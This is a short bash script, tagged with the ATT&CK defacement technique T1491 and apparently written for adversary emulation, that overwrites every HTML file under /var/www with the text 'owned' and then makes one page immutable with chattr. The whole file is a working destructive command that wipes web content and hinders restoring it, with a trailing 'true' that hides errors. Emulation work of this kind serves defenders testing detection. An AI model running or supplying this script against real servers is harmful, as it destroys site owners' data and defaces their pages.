#!/bin/bash
# T1491: Pages are replaced.
for f in $(find /var/www -name '*.html'); do echo '<h1>owned</h1>' >$f; done; chattr +i /var/www/html/page.html; true
